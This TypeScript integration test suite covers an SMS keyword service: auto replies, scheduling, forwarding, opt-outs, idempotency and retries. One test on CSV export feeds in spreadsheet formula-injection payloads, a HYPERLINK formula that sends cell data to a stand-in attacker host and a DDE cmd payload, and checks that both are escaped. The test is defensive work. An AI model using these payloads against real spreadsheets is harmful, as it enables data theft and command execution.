import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formatInZone } from '../../src/domain/time.js';
import { deliveryReportSignal, rescheduleReplySignal, stateQuery } from '../../src/workflows/definitions.js';
import { randomId, type Account, type Ctx } from '../helpers/harness.js';
import { Receiver } from '../helpers/http.js';
import { MailSink } from '../helpers/smtp.js';
import { temporalSuite } from '../helpers/suite.js';
import { historyShape } from '../helpers/temporal.js';
import { eventually } from '../helpers/wait.js';

// The suite's receiver takes the SMS of the `http` provider; mail goes to a real SMTP server.
const s = temporalSuite();
let mail: MailSink;
beforeAll(async () => {
  mail = await new MailSink().start();
});
afterAll(async () => {
  await mail?.close();
});

const CUSTOMER = '+919812345678';
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** A context whose SMS go through the `http` provider to the local receiver, at `path`. */
function httpSmsContext(path: string, extra: Record<string, string> = {}): Ctx {
  return s.h.context({ SMS_PROVIDER: 'http', SMS_HTTP_URL: s.hooks.url(path), SMTP_URL: mail.url, ...extra });
}

const localIn = (tz: string, ms: number) => formatInZone(new Date(Date.now() + ms), tz);

async function waitForAction(a: Account, logId: string, type: string, status: string, timeoutMs = 20_000) {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const log = await a.call('GET', `/logs/${logId}`);
    const action = log.body.actions?.find((x: { type: string }) => x.type === type);
    if (action?.status === status) return action;
    if (Date.now() > deadline) throw new Error(`action ${type} of ${logId} is ${JSON.stringify(action)}, expected ${status}`);
    await sleep(150);
  }
}

describe('auto reply', () => {
  it('sends an instant reply rendered with variables through the http provider, and records it', async () => {
    const ctx = httpSmsContext('/instant');
    const a = await ctx.account({ country: 'IN', timezone: 'Asia/Kolkata', senders: ['KLRHXA'] });
    await a.config({
      keyword: 'JOIN', template: 'JOIN <name> <city>',
      auto_reply: { sender: 'KLRHXA', message: 'Hi <name> from <city>, you texted <keyword> to <recipient> (<parts[1]>)', route: 'TXN', template_id: '1107161234567890123' },
    });
    const id = randomId();
    await a.send('join Priya New Delhi', { id });
    const state = await ctx.withWorker(() => ctx.result(`mo-${id}`));
    expect(state.actions.auto_reply).toBe('succeeded');

    const [req] = await s.hooks.waitFor('/instant');
    expect(req!.headers['idempotency-key']).toBe(`mo-${id}-auto_reply`);
    expect(JSON.parse(req!.body)).toEqual({
      id: `mo-${id}-auto_reply`, sender: 'KLRHXA', to: CUSTOMER,
      body: `Hi Priya from New Delhi, you texted JOIN to ${a.number} (join)`, route: 'TXN', template_id: '1107161234567890123',
    });
    const outbox = await a.call('GET', `/messages?log_id=${id}`);
    expect(outbox.body.data).toEqual([expect.objectContaining({ id: `mo-${id}-auto_reply`, purpose: 'auto_reply', status: 'sent', provider: 'http', attempts: 1 })]);
    const log = await a.call('GET', `/logs/${id}`);
    expect(log.body.actions).toEqual([expect.objectContaining({ type: 'auto_reply', status: 'succeeded', attempts: 1, outbox_id: `mo-${id}-auto_reply` })]);
  });

  it('holds a scheduled reply until its time, and the state query says what the run waits for', async () => {
    const ctx = httpSmsContext('/scheduled');
    const a = await ctx.account({ timezone: 'America/New_York', senders: ['BRAND'] });
    const id = randomId();
    // The time is chosen once the worker is up, so its start-up does not eat the wait.
    let at = '';
    await ctx.withWorker(async () => {
      at = localIn('America/New_York', 5000);
      await a.config({ keyword: 'LATER', auto_reply: { sender: 'BRAND', message: 'later, <source>', schedule: { type: 'scheduled', at } } });
      await a.send('later', { id });
      await waitForAction(a, id, 'auto_reply', 'scheduled');
      const state = await ctx.client.workflow.getHandle(`mo-${id}`).query(stateQuery);
      expect(state).toMatchObject({ phase: 'waiting', actions: { auto_reply: 'scheduled' } });
      expect(formatInZone(new Date(state.scheduledReplyAt!), 'America/New_York')).toBe(at);
      expect(s.hooks.to('/scheduled')).toHaveLength(0);
      await ctx.result(`mo-${id}`);
    });
    const [req] = s.hooks.to('/scheduled');
    expect(formatInZone(new Date(req!.at), 'America/New_York') >= at).toBe(true);
    expect(JSON.parse(req!.body).body).toBe(`later, ${CUSTOMER}`);
  });

  it('cancels a scheduled reply through the API', async () => {
    const ctx = httpSmsContext('/cancelled');
    const a = await ctx.account({ senders: ['BRAND'], standardKeywords: false });
    await a.config({ keyword: 'CANCEL', auto_reply: { sender: 'BRAND', message: 'never', schedule: { type: 'scheduled', at: localIn('UTC', 3_600_000) } } });
    const id = randomId();
    await a.send('cancel', { id });
    const state = await ctx.withWorker(async () => {
      await waitForAction(a, id, 'auto_reply', 'scheduled');
      const res = await a.call('POST', `/logs/${id}/scheduled-reply`, { action: 'cancel' });
      expect(res.status).toBe(202);
      return ctx.result(`mo-${id}`);
    });
    expect(state.actions.auto_reply).toBe('cancelled');
    expect(s.hooks.to('/cancelled')).toHaveLength(0);
    expect((await a.call('GET', `/logs/${id}`)).body.actions).toEqual([expect.objectContaining({ type: 'auto_reply', status: 'cancelled' })]);
    // Nothing is waiting any more.
    expect((await a.call('POST', `/logs/${id}/scheduled-reply`, { action: 'cancel' })).status).toBe(409);
  });

  it('answers steering a run that has ended with 409, even if the log still says a reply waits', async () => {
    const ctx = httpSmsContext('/ended');
    const a = await ctx.account({ senders: ['BRAND'] });
    await a.config({ keyword: 'ENDED', auto_reply: { sender: 'BRAND', message: 'never', schedule: { type: 'scheduled', at: localIn('UTC', 3_600_000) } } });
    const id = randomId();
    await a.send('ended', { id });
    await ctx.withWorker(async () => {
      await waitForAction(a, id, 'auto_reply', 'scheduled');
      // An operator terminates the run in the Temporal UI: the log is left as it was.
      await ctx.client.workflow.getHandle(`mo-${id}`).terminate('operator');
    });
    const res = await a.call('POST', `/logs/${id}/scheduled-reply`, { action: 'cancel' });
    expect(res.status).toBe(409);
    expect(res.body.error.code).toBe('not_scheduled');
  });

  it('reschedules a scheduled reply through the API', async () => {
    const ctx = httpSmsContext('/rescheduled');
    const a = await ctx.account({ timezone: 'Asia/Kolkata', senders: ['BRAND'] });
    await a.config({ keyword: 'MOVE', auto_reply: { sender: 'BRAND', message: 'moved', schedule: { type: 'scheduled', at: localIn('Asia/Kolkata', 3_600_000) } } });
    const id = randomId();
    await a.send('move', { id });
    let newAt = '';
    const state = await ctx.withWorker(async () => {
      await waitForAction(a, id, 'auto_reply', 'scheduled');
      newAt = localIn('Asia/Kolkata', 3000);
      const bad = await a.call('POST', `/logs/${id}/scheduled-reply`, { action: 'reschedule', at: '2020-01-01 00:00:00' });
      expect(bad.status).toBe(400);
      expect(bad.body.error.field).toBe('at');
      const res = await a.call('POST', `/logs/${id}/scheduled-reply`, { action: 'reschedule', at: newAt });
      expect(res.status).toBe(202);
      return ctx.result(`mo-${id}`);
    });
    expect(state.actions.auto_reply).toBe('succeeded');
    const [req] = s.hooks.to('/rescheduled');
    expect(formatInZone(new Date(req!.at), 'Asia/Kolkata') >= newAt).toBe(true);
    const action = (await a.call('GET', `/logs/${id}`)).body.actions[0];
    expect(formatInZone(new Date(action.scheduled_at), 'Asia/Kolkata')).toBe(newAt);
  });

  it('sends a scheduled reply on time while the trigger is still retrying', async () => {
    const ctx = httpSmsContext('/beside-trigger', { WEBHOOK_RETRY_HOURS: '0.003' }); // ~11 s of retries
    const hooks = await new Receiver().start();
    try {
      hooks.script('/down', [{ status: 503 }]);
      const a = await ctx.account({ senders: ['BRAND'] });
      const id = randomId();
      let at = '';
      const state = await ctx.withWorker(async () => {
        at = localIn('UTC', 3000);
        await a.config({ keyword: 'BOTH', trigger: { url: hooks.url('/down') }, auto_reply: { sender: 'BRAND', message: 'on time', schedule: { type: 'scheduled', at } } });
        await a.send('both', { id });
        return ctx.result(`mo-${id}`);
      });
      expect(state.actions).toMatchObject({ auto_reply: 'succeeded', trigger: 'failed' });
      const [reply] = s.hooks.to('/beside-trigger');
      const lastAttempt = hooks.to('/down').at(-1)!;
      // The reply went out at its time, before the webhook gave up.
      expect(formatInZone(new Date(reply!.at), 'UTC') >= at).toBe(true);
      expect(reply!.at).toBeLessThan(Date.parse(`${at.replace(' ', 'T')}Z`) + 3000);
      expect(lastAttempt.at).toBeGreaterThan(reply!.at);
    } finally {
      await hooks.close();
    }
  });

  it('moves a reply later, and ignores a reschedule signal whose time does not parse', async () => {
    const ctx = httpSmsContext('/later');
    const a = await ctx.account({ senders: ['BRAND'] });
    const id = randomId();
    let later = '';
    const state = await ctx.withWorker(async () => {
      // Times in whole seconds, chosen once the worker is up: the original one leaves the run
      // time to start on a loaded machine.
      const original = Date.now() + 5000;
      later = localIn('UTC', 9000);
      await a.config({ keyword: 'PUSH', auto_reply: { sender: 'BRAND', message: 'pushed', schedule: { type: 'scheduled', at: formatInZone(new Date(original), 'UTC') } } });
      await a.send('push', { id });
      await waitForAction(a, id, 'auto_reply', 'scheduled');
      const handle = ctx.client.workflow.getHandle(`mo-${id}`);
      await handle.signal(rescheduleReplySignal, { at: 'next tuesday' });
      expect((await a.call('POST', `/logs/${id}/scheduled-reply`, { action: 'reschedule', at: later })).status).toBe(202);
      await sleep(Math.max(0, original + 1500 - Date.now())); // past the original time: nothing yet
      expect(s.hooks.to('/later')).toHaveLength(0);
      return ctx.result(`mo-${id}`);
    });
    expect(state.actions.auto_reply).toBe('succeeded');
    const [req] = s.hooks.to('/later');
    expect(formatInZone(new Date(req!.at), 'UTC') >= later).toBe(true);
  });

  it('skips a scheduled reply to a customer who opted out before it fired', async () => {
    const ctx = httpSmsContext('/optout-scheduled');
    const a = await ctx.account({ senders: ['BRAND'], standardKeywords: false });
    await a.config({ keyword: 'PROMO', auto_reply: { sender: 'BRAND', message: 'promo', schedule: { type: 'scheduled', at: localIn('UTC', 3_600_000) } } });
    await a.config({ keyword: 'STOP', unsubscribe: { scope: 'all' } });
    const promo = randomId();
    const stop = randomId();
    const state = await ctx.withWorker(async () => {
      await a.send('promo', { id: promo });
      await waitForAction(a, promo, 'auto_reply', 'scheduled');
      await a.send('stop', { id: stop });
      await ctx.result(`mo-${stop}`);
      // The customer has opted out; the reply's time then comes (brought forward, not waited for).
      expect((await a.call('POST', `/logs/${promo}/scheduled-reply`, { action: 'reschedule', at: localIn('UTC', 2000) })).status).toBe(202);
      return ctx.result(`mo-${promo}`);
    });
    expect(state.actions.auto_reply).toBe('skipped');
    expect(s.hooks.to('/optout-scheduled')).toHaveLength(0);
    expect((await a.call('GET', `/logs/${promo}`)).body.actions).toEqual([expect.objectContaining({ type: 'auto_reply', status: 'skipped', last_error: 'opted_out' })]);
  });
});

describe('expiry message', () => {
  it('answers an expired keyword with its expiry message and runs nothing else', async () => {
    const ctx = httpSmsContext('/expiry');
    const hooks = await new Receiver().start();
    try {
      const a = await ctx.account({ senders: ['BRAND'] });
      await a.config({
        keyword: 'DIWALI', expires_at: '2025-11-01 00:00:00', expiry_message: 'Sorry <source>, <keyword> has ended.',
        auto_reply: { sender: 'BRAND', message: 'code 123' }, forward: { email: { to: 'ops@example.com' } }, trigger: { url: hooks.url('/t') },
      });
      const id = randomId();
      const res = await a.send('diwali', { id });
      expect(res.body.outcome).toBe('expired');
      const state = await ctx.withWorker(() => ctx.result(`mo-${id}`));
      expect(state.actions).toEqual({ expiry_message: 'succeeded' });
      const reqs = s.hooks.to('/expiry');
      expect(reqs.map((r) => JSON.parse(r.body).body)).toEqual([`Sorry ${CUSTOMER}, DIWALI has ended.`]);
      expect(JSON.parse(reqs[0]!.body).sender).toBe('BRAND');
      expect(hooks.requests).toHaveLength(0);
    } finally {
      await hooks.close();
    }
  });
});

describe('forward', () => {
  it('forwards by SMS and by email to a real SMTP server', async () => {
    const ctx = httpSmsContext('/forward');
    const a = await ctx.account({ senders: ['FWD'] });
    await a.config({ keyword: 'CALLME', forward: { sms: { to: '+919800000001', sender: 'FWD' }, email: { to: ['sales@example.com', 'ops@example.com'] } } });
    const id = randomId();
    const before = mail.mails.length;
    await a.send('callme after 5pm', { id });
    const state = await ctx.withWorker(() => ctx.result(`mo-${id}`));
    expect(state.actions).toEqual({ forward_sms: 'succeeded', forward_email: 'succeeded' });

    const [req] = s.hooks.to('/forward');
    expect(JSON.parse(req!.body)).toMatchObject({ sender: 'FWD', to: '+919800000001', body: `SMS from ${CUSTOMER} to ${a.number}: callme after 5pm` });
    const mails = (await mail.waitFor(before + 1)).slice(before);
    expect(mails).toHaveLength(1);
    expect(mails[0]!.to.sort()).toEqual(['ops@example.com', 'sales@example.com']);
    expect(mails[0]!.raw).toContain(`Subject: SMS CALLME from ${CUSTOMER} to ${a.number}`);
    expect(mails[0]!.raw).toContain('callme after 5pm');
    expect(mails[0]!.raw).toContain(`From:     ${CUSTOMER}`);
    const outbox = await a.call('GET', `/messages?log_id=${id}&channel=email`);
    expect(outbox.body.data).toEqual([expect.objectContaining({ purpose: 'forward_email', status: 'sent', to: 'sales@example.com, ops@example.com' })]);
  });

  it('keeps the email in the outbox when no SMTP server is configured', async () => {
    const ctx = s.h.context();
    const a = await ctx.account();
    await a.config({ keyword: 'MAILME', forward: { email: { to: 'sales@example.com' } } });
    const id = randomId();
    await a.send('mailme', { id });
    await ctx.withWorker(() => ctx.result(`mo-${id}`));
    const outbox = await a.call('GET', `/messages?log_id=${id}`);
    expect(outbox.body.data).toEqual([expect.objectContaining({ channel: 'email', status: 'stored', provider: 'outbox' })]);
  });
});

describe('subscribe and unsubscribe', () => {
  it('opts out of the configured senders, then of all, then back in, as the send API shows', async () => {
    const ctx = s.h.context();
    const a = await ctx.account({ senders: ['ALPHA', 'BETA'], standardKeywords: false });
    await a.config({ keyword: 'STOP ALPHA', unsubscribe: { scope: 'configured', senders: ['ALPHA'] } });
    await a.config({ keyword: 'STOP', unsubscribe: { scope: 'all' } });
    await a.config({ keyword: 'START', subscribe: true });
    const send = (sender: string) => a.call('POST', '/messages', { to: CUSTOMER, sender, body: `hello from ${sender}` });
    const run = async (text: string) => {
      const res = await a.send(text, { source: CUSTOMER });
      await ctx.result(res.body.workflow_id);
    };

    await ctx.withWorker(async () => {
      expect((await send('ALPHA')).status).toBe(201);

      await run('stop alpha');
      const refused = await send('ALPHA');
      expect(refused.status).toBe(403);
      expect(refused.body.error).toMatchObject({ code: 'opted_out', field: 'to' });
      expect((await send('BETA')).status).toBe(201);

      await run('STOP');
      expect((await send('ALPHA')).status).toBe(403);
      expect((await send('BETA')).status).toBe(403);
      await a.call('POST', '/sender-ids', { sender_id: 'GAMMA' });
      expect((await send('GAMMA')).status).toBe(403); // "all" covers senders registered later

      await run('start');
      expect((await send('ALPHA')).status).toBe(201);
      expect((await send('BETA')).status).toBe(201);
      expect((await send('GAMMA')).status).toBe(201);
    });

    const list = await a.call('GET', `/subscriptions?number=${encodeURIComponent(CUSTOMER)}`);
    expect(list.body.data.map((r: { sender_id: string; status: string }) => [r.sender_id, r.status]).sort()).toEqual([['*', 'subscribed'], ['ALPHA', 'subscribed']]);
    const history = await a.call('GET', `/subscriptions/history?number=${encodeURIComponent(CUSTOMER)}`);
    expect(history.body.data.map((r: { sender_id: string; status: string }) => `${r.sender_id}:${r.status}`)).toEqual(
      expect.arrayContaining(['ALPHA:unsubscribed', '*:unsubscribed', '*:subscribed', 'ALPHA:subscribed']),
    );
    expect(history.body.data).toHaveLength(4);

    await ctx.withWorker(() => run('stop alpha'));
    const out = await a.call('GET', '/subscriptions?status=unsubscribed');
    expect(out.body.data).toEqual([expect.objectContaining({ number: CUSTOMER, sender_id: 'ALPHA', status: 'unsubscribed', via_number: a.number })]);
    const csv = await ctx.request('GET', `/v1/${a.sid}/subscriptions?format=csv&status=unsubscribed`, undefined, { 'api-key': a.apiKey });
    expect(csv.status).toBe(200);
    const lines = String(csv.body).trim().split('\r\n');
    expect(lines[0]).toBe('number,sender_id,status,via_number,log_id,updated_at');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toMatch(new RegExp(`^\\${CUSTOMER},ALPHA,unsubscribed,\\${a.number},`));
  });

  it('exports a carrier\'s number or message id that reads as a formula as text, E.164 numbers as they are', async () => {
    const ctx = s.h.context();
    const a = await ctx.account({ senders: ['BRAND'], standardKeywords: false });
    await a.config({ keyword: 'STOP', unsubscribe: { scope: 'all' } });
    const id = `=HYPERLINK("http://evil.example/?"&A3,"open")${randomId('')}`;
    const bad = await ctx.ingest({ id: randomId('m'), source: "=cmd|'/Ccalc'!A0", recipient: a.number, message: 'stop' });
    const viaId = await ctx.ingest({ id, source: '+15551230000', recipient: a.number, message: 'stop' });
    for (const res of [bad, viaId]) await ctx.withWorker(() => ctx.result(res.body.workflow_id));
    const csv = await ctx.request('GET', `/v1/${a.sid}/subscriptions?format=csv`, undefined, { 'api-key': a.apiKey });
    const lines = String(csv.body).trim().split('\r\n').slice(1);
    expect(lines).toHaveLength(2);
    expect(lines).toContainEqual(expect.stringMatching(/^'=cmd\|'\/Ccalc'!A0,\*,unsubscribed,/));
    const row = lines.find((l) => l.startsWith('+15551230000,'));
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A3,""open"")`);
    for (const line of lines) expect(line).not.toMatch(/(^|,)[=@]/);
  });

  it('treats national-format numbers from the carrier as the E.164 numbers they are', async () => {
    const ctx = s.h.context();
    const a = await ctx.account({ senders: ['BRAND'], standardKeywords: false });
    await a.config({ keyword: 'STOP', unsubscribe: { scope: 'all' } });
    // The carrier writes both numbers with their 10 national digits only.
    const res = await ctx.ingest({ source: '9812345670', recipient: a.number.slice(-10), message: 'stop' });
    expect(res.body.outcome).toBe('keyword');
    await ctx.withWorker(() => ctx.result(res.body.workflow_id));
    const log = await a.call('GET', `/logs/${res.body.id}`);
    expect(log.body).toMatchObject({ source: '+919812345670', recipient: a.number });
    // The send API takes E.164 only, so a national form cannot slip past the opt-out.
    const national = await a.call('POST', '/messages', { to: '9812345670', sender: 'BRAND', body: 'x' });
    expect(national.status).toBe(400);
    expect(national.body.error.field).toBe('to');
    expect((await a.call('POST', '/messages', { to: '+919812345670', sender: 'BRAND', body: 'x' })).status).toBe(403);
  });

  it('lets a STOP keyword confirm once, and blocks what comes after', async () => {
    const ctx = httpSmsContext('/stop-confirm');
    const a = await ctx.account({ senders: ['BRAND'], standardKeywords: false });
    await a.config({ keyword: 'STOP', unsubscribe: { scope: 'all' }, auto_reply: { sender: 'BRAND', message: 'You will get no more messages.' } });
    await a.config({ keyword: 'HELP', auto_reply: { sender: 'BRAND', message: 'help text' } });
    const stop = randomId();
    const help = randomId();
    const states = await ctx.withWorker(async () => {
      await a.send('stop', { id: stop });
      const s1 = await ctx.result(`mo-${stop}`);
      await a.send('help', { id: help });
      return [s1, await ctx.result(`mo-${help}`)];
    });
    expect(states[0].actions).toEqual({ auto_reply: 'succeeded', unsubscribe: 'succeeded' });
    expect(states[1].actions).toEqual({ auto_reply: 'skipped' });
    expect(s.hooks.to('/stop-confirm').map((r) => JSON.parse(r.body).body)).toEqual(['You will get no more messages.']);
  });
});

describe('send API and outbox', () => {
  it('refuses India sends without route and template id, and unknown senders', async () => {
    const ctx = s.h.context();
    const a = await ctx.account({ country: 'IN', senders: ['KLRHXA'] });
    const noRoute = await a.call('POST', '/messages', { to: CUSTOMER, sender: 'KLRHXA', body: 'x', template_id: '1107161234567890123' });
    expect(noRoute.status).toBe(400);
    expect(noRoute.body.error.field).toBe('route');
    const noTemplate = await a.call('POST', '/messages', { to: CUSTOMER, sender: 'KLRHXA', body: 'x', route: 'TXN' });
    expect(noTemplate.body.error.field).toBe('template_id');
    const unknown = await a.call('POST', '/messages', { to: CUSTOMER, sender: 'NOPE', body: 'x', route: 'TXN', template_id: '1' });
    expect(unknown.status).toBe(400);
    expect(unknown.body.error.field).toBe('sender');
    const ok = await a.call('POST', '/messages', { to: CUSTOMER, sender: 'KLRHXA', body: 'x', route: 'TXN', template_id: '1' });
    expect(ok.status).toBe(201);
    expect(ok.body).toMatchObject({ status: 'sent', provider: 'log', route: 'TXN', template_id: '1' });
  });

  it('refuses India receive configurations without route and template id', async () => {
    const ctx = s.h.context();
    const a = await ctx.account({ country: 'IN', senders: ['KLRHXA'] });
    const reply = await a.call('POST', '/receive-configs', { number: a.number, keyword: 'HI', auto_reply: { sender: 'KLRHXA', message: 'hi', template_id: '1' } });
    expect(reply.status).toBe(400);
    expect(reply.body.error.field).toBe('auto_reply.route');
    const fwd = await a.call('POST', '/receive-configs', { number: a.number, keyword: 'HI', forward: { sms: { to: '+919800000001', sender: 'KLRHXA', route: 'MKT' } } });
    expect(fwd.status).toBe(400);
    expect(fwd.body.error.field).toBe('forward.sms.template_id');
  });

  it('sends once when two requests with one Idempotency-Key overlap', async () => {
    const ctx = httpSmsContext('/api-race');
    s.hooks.script('/api-race', [{ status: 200, body: '{}', delayMs: 2000 }]);
    const a = await ctx.account({ senders: ['BRAND'] });
    const body = { to: CUSTOMER, sender: 'BRAND', body: 'race' };
    const headers = { 'api-key': a.apiKey, 'idempotency-key': 'retry-on-timeout' };
    // The second request once the first one's send has reached the provider (which takes 2 s to answer).
    const arrived = () => eventually('the first send at the provider', async () => s.hooks.to('/api-race').length > 0, 2_000);
    const [first, second] = await Promise.all([
      ctx.request('POST', `/v1/${a.sid}/messages`, body, headers),
      arrived().then(() => ctx.request('POST', `/v1/${a.sid}/messages`, body, headers)),
    ]);
    expect(first.status).toBe(201);
    expect(second.status).toBe(409);
    expect(second.body.error.code).toBe('in_progress');
    expect(s.hooks.to('/api-race')).toHaveLength(1);
    const again = await ctx.request('POST', `/v1/${a.sid}/messages`, body, headers);
    expect(again.status).toBe(200);
    expect(s.hooks.to('/api-race')).toHaveLength(1);
  });

  it('gives an India expiry message its own sender, route and DLT template', async () => {
    const ctx = httpSmsContext('/expiry-in');
    const a = await ctx.account({ country: 'IN', senders: ['KLRHXA', 'KLREXP'] });
    const base = { number: a.number, keyword: 'GONE', expires_at: '2025-01-01 00:00:00', expiry_message: 'Offer over' };
    const noSender = await a.call('POST', '/receive-configs', base);
    expect(noSender.status).toBe(400);
    expect(noSender.body.error.field).toBe('expiry_sender');
    const noRoute = await a.call('POST', '/receive-configs', { ...base, expiry_sender: 'KLREXP', expiry_template_id: '1107000000000000001' });
    expect(noRoute.body.error.field).toBe('expiry_route');
    const noTemplate = await a.call('POST', '/receive-configs', { ...base, expiry_sender: 'KLREXP', expiry_route: 'TXN' });
    expect(noTemplate.body.error.field).toBe('expiry_template_id');
    const unknown = await a.call('POST', '/receive-configs', { ...base, expiry_sender: 'NOPE', expiry_route: 'TXN', expiry_template_id: '1107000000000000001' });
    expect(unknown.body.error.field).toBe('expiry_sender');
    const stray = await a.call('POST', '/receive-configs', { number: a.number, keyword: 'X', subscribe: true, expiry_route: 'TXN' });
    expect(stray.body.error.field).toBe('expiry_route');

    await a.config({
      keyword: 'GONE', expires_at: '2025-01-01 00:00:00', expiry_message: 'Offer over',
      expiry_sender: 'KLREXP', expiry_route: 'TXN', expiry_template_id: '1107000000000000001',
      auto_reply: { sender: 'KLRHXA', message: 'code', route: 'MKT', template_id: '1107000000000000002' },
    });
    const id = randomId();
    await a.send('gone', { id });
    await ctx.withWorker(() => ctx.result(`mo-${id}`));
    const [req] = s.hooks.to('/expiry-in');
    expect(JSON.parse(req!.body)).toMatchObject({ sender: 'KLREXP', body: 'Offer over', route: 'TXN', template_id: '1107000000000000001' });
  });

  it('sends once per Idempotency-Key', async () => {
    const ctx = httpSmsContext('/api-idem');
    const a = await ctx.account({ senders: ['BRAND'] });
    const body = { to: CUSTOMER, sender: 'BRAND', body: 'once' };
    const headers = { 'api-key': a.apiKey, 'idempotency-key': 'order-42' };
    const first = await ctx.request('POST', `/v1/${a.sid}/messages`, body, headers);
    const second = await ctx.request('POST', `/v1/${a.sid}/messages`, body, headers);
    expect(first.status).toBe(201);
    expect(second.status).toBe(200);
    expect(second.body.id).toBe(first.body.id);
    expect(s.hooks.to('/api-idem')).toHaveLength(1);
  });
});

describe('retries', () => {
  it('retries an SMS the provider could not take, and sends it once it can, under one outbox row', async () => {
    const ctx = httpSmsContext('/flaky-sms');
    s.hooks.script('/flaky-sms', [{ status: 503, body: 'busy' }, { status: 200, body: '{"message_id":"prov-1"}' }]);
    const a = await ctx.account({ senders: ['BRAND'] });
    await a.config({ keyword: 'RETRY', auto_reply: { sender: 'BRAND', message: 'made it' } });
    const id = randomId();
    await a.send('retry', { id });
    const state = await ctx.withWorker(() => ctx.result(`mo-${id}`));
    expect(state.actions.auto_reply).toBe('succeeded');
    const reqs = s.hooks.to('/flaky-sms');
    expect(reqs).toHaveLength(2);
    expect(new Set(reqs.map((r) => JSON.parse(r.body).id))).toEqual(new Set([`mo-${id}-auto_reply`]));
    const outbox = await a.call('GET', `/messages?log_id=${id}`);
    expect(outbox.body.data).toEqual([expect.objectContaining({ status: 'sent', attempts: 2, provider_message_id: 'prov-1' })]);
    const action = (await a.call('GET', `/logs/${id}`)).body.actions[0];
    expect(action).toMatchObject({ status: 'succeeded', attempts: 2, last_error: null });
    // The first send was a local activity; the retry, the regular activity under its policy.
    const shape = await historyShape(ctx.client, `mo-${id}`);
    expect(shape.activities).toEqual(['sendSmsAction']);
  });

  it('does not send again when the activity runs again after a send that succeeded', async () => {
    const ctx = httpSmsContext('/crash-sms');
    const a = await ctx.account({ senders: ['BRAND'] });
    await a.config({ keyword: 'TWICE', auto_reply: { sender: 'BRAND', message: 'just once' } });
    const id = randomId();
    await a.send('twice', { id });
    await ctx.withWorker(() => ctx.result(`mo-${id}`));
    expect(s.hooks.to('/crash-sms')).toHaveLength(1);

    // A worker that dies after the provider took the SMS but before Temporal heard of it runs
    // the same activity again with the same input: the outbox row makes it a no-op.
    const { MockActivityEnvironment } = await import('@temporalio/testing');
    const { createActivities } = await import('../../src/activities/index.js');
    const { createSmsProvider } = await import('../../src/outbound/sms-providers.js');
    const { createMailer } = await import('../../src/outbound/mailer.js');
    const acts = createActivities({ sql: s.h.sql, config: ctx.config, sms: createSmsProvider(ctx.config), mailer: createMailer(ctx.config) });
    const plan = (await new MockActivityEnvironment().run(acts.prepareRun, id)) as Awaited<ReturnType<typeof acts.prepareRun>>;
    const again = (await new MockActivityEnvironment({ attempt: 2 }).run(acts.sendSmsAction, plan!.autoReply!)) as Awaited<ReturnType<typeof acts.sendSmsAction>>;
    expect(again.status).toBe('succeeded');
    expect(s.hooks.to('/crash-sms')).toHaveLength(1);
  });
});

describe('delivery reports', () => {
  it('records a deliveryReport signal on the outbox row and the log', async () => {
    const ctx = httpSmsContext('/dlr', { DELIVERY_REPORT_WAIT_SECONDS: '60' });
    s.hooks.script('/dlr', [{ status: 200, body: '{"message_id":"prov-dlr-1"}' }]);
    const a = await ctx.account({ senders: ['BRAND'] });
    await a.config({ keyword: 'DLR', auto_reply: { sender: 'BRAND', message: 'track me' } });
    const id = randomId();
    await a.send('dlr', { id });
    const state = await ctx.withWorker(async () => {
      await waitForAction(a, id, 'auto_reply', 'succeeded');
      const handle = ctx.client.workflow.getHandle(`mo-${id}`);
      expect((await handle.query(stateQuery)).phase).toBe('waiting');
      await handle.signal(deliveryReportSignal, { message_id: 'prov-dlr-1', status: 'DELIVERED' });
      return ctx.result(`mo-${id}`);
    });
    expect(state.phase).toBe('completed');
    const outbox = await a.call('GET', `/messages?log_id=${id}`);
    expect(outbox.body.data).toEqual([expect.objectContaining({ status: 'delivered', delivery_status: 'DELIVERED' })]);
    const action = (await a.call('GET', `/logs/${id}`)).body.actions[0];
    expect(action).toMatchObject({ type: 'auto_reply', delivery_status: 'DELIVERED' });
  });
});
